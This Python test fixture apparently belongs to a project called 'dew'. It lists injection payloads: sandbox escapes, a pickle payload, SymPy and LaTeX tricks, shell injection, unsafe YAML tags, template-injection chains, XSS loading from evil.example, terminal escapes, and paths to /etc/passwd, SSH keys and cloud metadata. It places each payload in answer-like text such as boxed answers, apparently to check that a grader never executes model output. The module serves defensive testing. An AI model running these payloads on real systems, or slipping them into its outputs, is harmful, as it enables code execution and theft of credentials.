"""Text that would like to be more than text: code, templates, markup, paths, escapes. CANARY is a file to be made.

None of it has an effect anywhere in dew; the tests that say so are listed in docs/security.md.
"""

CANARY = "CANARY"

PYTHON = r"""
__import__('os').system('touch CANARY')
__import__("os").system("touch CANARY")
__import__('os').popen('touch CANARY').read()
__import__('subprocess').run(['touch','CANARY'])
__import__('pathlib').Path('CANARY').touch()
__import__('builtins').open('CANARY','w')
open('CANARY','w').write('x')
open("CANARY", "w").close()
exec("open('CANARY','w')")
eval("open('CANARY','w')")
exec(chr(111)+"pen('CANARY','w')")
compile("open('CANARY','w')","x","exec")
(lambda: open('CANARY','w'))()
[x for x in [open('CANARY','w')]][0]
{open('CANARY','w')}
().__class__.__bases__[0].__subclasses__()
[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0].__init__.__globals__['system']('touch CANARY')
(1).__class__.__base__.__subclasses__()
getattr(__builtins__,'ev'+'al')("open('CANARY','w')")
globals()['__builtins__']['open']('CANARY','w')
breakpoint()
exit()
quit(1)
sys.exit(0)
os._exit(0)
raise SystemExit
import os; os.system('touch CANARY')
from os import system as s; s('touch CANARY')
1 if open('CANARY','w') else 2
(yield open('CANARY','w'))
f"{open('CANARY','w')}"
f'{__import__("os").system("touch CANARY")}'
{__import__('os').system('touch CANARY')}
'%s' % open('CANARY','w')
'{0.__class__.__init__.__globals__}'.format(open)
{0.__class__.__mro__[1].__subclasses__}
%(x)s%n%n%n
{x!r:>1000000000}
@open('CANARY','w')
print(1, file=open('CANARY','w'))
pickle.loads(b"cos\nsystem\n(S'touch CANARY'\ntR.")
cos\nsystem\n(S'touch CANARY'\ntR.
gASVKQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjA50b3VjaCBDQU5BUlmUhZRSlC4=
"""

SYMPY = r"""
Symbol('x').__class__.__init__.__globals__['__builtins__']['open']('CANARY','w')
sympify("__import__('os').system('touch CANARY')")
S("__import__('os').system('touch CANARY')")
parse_expr("open('CANARY','w')")
lambdify(x, "open('CANARY','w')")(1)
lambdify([x], x, modules=[{'x': open('CANARY','w')}])
Lambda(x, open('CANARY','w'))
Function('__import__')('os')
Integer("__import__('os').system('touch CANARY')")
x.func.__globals__
x.subs(x, open('CANARY','w'))
preview(x, output='png', filename='CANARY')
init_printing(eval("open('CANARY','w')"))
codegen(('f', x), 'C', to_files=True)
autowrap(x, tempdir='CANARY')
evalf(exec)
plot(x)
srepr(x)
solve(__import__('os').system('touch CANARY'))
1.__class__
1e__import__('os')
0x__import__
1_000__import__('os').system('touch CANARY')
3 + __import__('os').system('touch CANARY')
(3, __import__('os').system('touch CANARY'))
{3, __import__('os').system('touch CANARY')}
"""

LATEX = r"""
\input{/etc/passwd}
\include{/etc/passwd}
\immediate\write18{touch CANARY}
\write18{touch CANARY}
\openout5=CANARY \write5{x}
\newwrite\f \immediate\openout\f=CANARY
\directlua{os.execute("touch CANARY")}
\catcode`\@=11 \def\x{\x\x}\x
\loop\iftrue\repeat
\csname __import__\endcsname('os')
\text{__import__('os').system('touch CANARY')}
\mathrm{open('CANARY','w')}
\operatorname{__import__}('os')
\operatorname{eval}(open('CANARY','w'))
\operatorname{exec}\left(x\right)
\operatorname{system}(1)
\mathbb{__import__('os')}
x_{__import__('os').system('touch CANARY')}
x^{open('CANARY','w')}
\frac{__import__('os').system('touch CANARY')}{1}
\sqrt[open('CANARY','w')]{2}
\sum_{x=open('CANARY','w')}^{3} x
\int_0^1 __import__('os').system('touch CANARY') dx
\begin{matrix}open('CANARY','w')&1\\2&3\end{matrix}
\{open('CANARY','w'), 1\}
[open('CANARY','w'), 1)
\href{file:///etc/passwd}{1}
\url{javascript:alert(1)}
\includegraphics{/etc/passwd}
\boxed{\boxed{__import__('os').system('touch CANARY')}}
"""

SHELL = r"""
$(touch CANARY)
`touch CANARY`
; touch CANARY
| touch CANARY
&& touch CANARY
> CANARY
1; touch CANARY #
'; touch CANARY; '
"; touch CANARY; "
${IFS}touch${IFS}CANARY
-rf /
--output=CANARY
!touch CANARY
%0Atouch CANARY
() { :;}; touch CANARY
'; DROP TABLE runs; --
"""

YAML = r"""
!!python/object/apply:os.system ["touch CANARY"]
!!python/object/new:os.system ["touch CANARY"]
!!python/name:os.system
!!python/module:os
!!python/object/apply:subprocess.check_output [["touch","CANARY"]]
!!python/object/apply:builtins.open ["CANARY", "w"]
!!python/tuple [1, 2]
!!binary gASV
!!timestamp 2001-99-99
!<tag:yaml.org,2002:python/object/apply:os.system> ["touch CANARY"]
{a: !!python/name:os.system }
&a [*a]
*undefined
<<: *x
? [1, 2]
%TAG ! tag:yaml.org,2002:python/
"""

TEMPLATES = r"""
{{ 7*7 }}
{{ config }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ cycler.__init__.__globals__.os.system('touch CANARY') }}
{{ lipsum.__globals__['os'].popen('touch CANARY').read() }}
{{ self._TemplateReference__context.cycler.__init__.__globals__.os.system('touch CANARY') }}
{{ request.application.__globals__.__builtins__.open('CANARY','w') }}
{% for x in range(10**9) %}x{% endfor %}
{% import 'os' as os %}{{ os.system('touch CANARY') }}
{% include '/etc/passwd' %}
{# comment #}
{%- raw -%}
{{ raise_exception('x') }}
<%= system('touch CANARY') %>
${7*7}
#{7*7}
{problem}
{instruction}
"""

HTML = r"""
<script>alert(1)</script>
</script><script>alert(1)</script>
<script src=//evil.example/x.js></script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<iframe src=javascript:alert(1)>
<a href="javascript:alert(1)">1</a>
<body onload=alert(1)>
<style>@import '//evil.example/x.css'</style>
<link rel=stylesheet href=//evil.example>
<meta http-equiv=refresh content="0;url=//evil.example">
<base href=//evil.example>
<form action=//evil.example><input name=x></form>
<object data=//evil.example></object>
<math><mtext></mtext><script>alert(1)</script></math>
<template><script>alert(1)</script></template>
--><script>alert(1)</script>
]]><script>alert(1)</script>
"><script>alert(1)</script>
' onmouseover=alert(1) '
&lt;script&gt;alert(1)&lt;/script&gt;
&#x3C;script&#x3E;alert(1)
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
<!--<script>
{"__proto__": {"polluted": 1}}
constructor.prototype.polluted=1
data:text/html,<script>alert(1)</script>
"""

MARKUP = r"""
[link=file:///etc/passwd]click[/link]
[bold red]error: [/bold red]
[/]
[/bold]
[bold
[blink]x[/blink]
[on red]x
[@click=app.bell]x[/]
[[[[]]]]
:skull:
\[bold]x
[reverse]ok[/reverse]
"""

TERMINAL = [
    "\x1b[2J\x1b[H",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;owned\x07",
    "\x1b]8;;file:///etc/passwd\x07click\x1b]8;;\x07",
    "\x1b]52;c;dG91Y2ggQ0FOQVJZ\x07",
    "\x1b]1337;File=name=x:AAAA\x07",
    "\x1bP$q\x1b\\",
    "\x1b[?1049h",
    "\x1b[6n",
    "\x1b[20t",
    "\x1b]50;x\x07",
    "\x9b31mred",
    "\x9d0;owned\x9c",
    "\x08\x08\x08\x08ok",
    "real\rfake",
    "a\x00b",
    "\x07\x07\x07",
    "\x7f\x7f",
    "\x0e\x0f",
    "line\x0bfeed\x0c",
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2069",
    "\u200b\u200d\ufeff",
    "\ud800 lone",
    "\udcff bytes",
    "\u2028line\u2029",
    "e" + "\u0301" * 500,
    "\U000e0041\U000e0042",
]

PATHS = r"""
../../../../etc/passwd
..\..\..\windows\win.ini
/etc/passwd
~/.ssh/id_rsa
file:///etc/passwd
/proc/self/environ
/dev/zero
/dev/stdin
CON
nul.txt
a/../../b
....//....//etc/passwd
%2e%2e%2fetc%2fpasswd
step-00000001.jsonl.gz/../../x
.git/hooks/post-checkout
\\evil.example\share
http://169.254.169.254/latest/meta-data/
"""

NUMBERS = r"""
1e999999999
9**9**9**9
10^10^10^10
0x7fffffffffffffff
1_000_000
٣٤٥
²³
NaN
-Infinity
1/0
0^0
0/0
True
None
1e-999999
007
1,2,3,4,5,6,7,8,9,10
++1
--1
1j
"""

FAMILIES: dict[str, list[str]] = {
    name: [line for line in text.strip().split("\n") if line] if isinstance(text, str) else text
    for name, text in {
        "python": PYTHON,
        "sympy": SYMPY,
        "latex": LATEX,
        "shell": SHELL,
        "yaml": YAML,
        "templates": TEMPLATES,
        "html": HTML,
        "markup": MARKUP,
        "terminal": TERMINAL,
        "paths": PATHS,
        "numbers": NUMBERS,
    }.items()
}
ATTACKS = [text for family in FAMILIES.values() for text in family]

PLACES = (
    "%s",
    r"\boxed{%s}",
    "#### %s",
    "The answer is %s.",
    "<answer>%s</answer>",
    "so $%s$",
    "$$x = %s$$",
    r"\boxed{\text{%s}}",
    r"\boxed{1 + %s}",
    "<think>%s</think> %s",
    "3+5=8;%s",
    "the result [%s]",
)
"""Where in a completion it stands."""


def completions(per_attack: int = len(PLACES), canary: str = CANARY) -> list[str]:
    """Every attack in so many places, going round, with the canary's path filled in."""
    return [
        PLACES[(i + j) % len(PLACES)].replace("%s", attack).replace(CANARY, canary)
        for i, attack in enumerate(ATTACKS)
        for j in range(per_attack)
    ]
